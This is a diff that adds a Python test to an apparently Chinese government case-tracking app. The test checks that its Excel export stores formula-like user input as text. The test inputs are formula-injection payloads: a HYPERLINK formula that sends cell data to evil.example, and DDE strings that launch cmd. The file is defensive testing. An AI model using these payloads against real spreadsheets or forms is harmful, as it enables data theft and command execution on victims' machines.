@@ -377,6 +377,23 @@ def test_excel_dates_are_beijing_dates_and_the_file_name_is_chinese(world):
     assert "yy" in cell.number_format
 
 
+def test_excel_writes_formula_like_text_as_text(world):
+    """A cadre typed as =HYPERLINK(…) must not become a live formula in the supervisor's Excel."""
+    eng, clock = world["engine"], world["clock"]
+    clock.now = NOW
+    evil = {"cadre_name": '=HYPERLINK("http://evil.example/?"&A1,"点我")', "post": "+cmd|' /C calc'!A0",
+            "unit": "@SUM(1+1)*cmd|' /C calc'!A0"}
+    case_id = eng.start_case(XINGHUA, dict(CASE_FACTS, **evil), as_user(eng, "organization"))
+    client = login(world)
+    for query, id_column in (("kind=light&light=green", 3), ("kind=step&process=joint_audit_xinghua&step=issue_notice", 2)):
+        sheet = _workbook(client.get(f"/supervise/list.xlsx?{query}")).active
+        (row,) = [r for r in sheet.iter_rows(min_row=2) if r[id_column - 1].value == case_id]
+        texts = [c for c in row if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
+        assert {c.value for c in texts} >= {f"{evil['cadre_name']} {evil['post']} ({evil['unit']})", evil["unit"]}
+        assert all(c.data_type == "s" for c in texts), [(c.value, c.data_type) for c in texts]
+        assert not [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"]
+
+
 # --- case actions -----------------------------------------------------------------------------
 def status_of(eng, case_id):
     with eng.db.reading() as s:
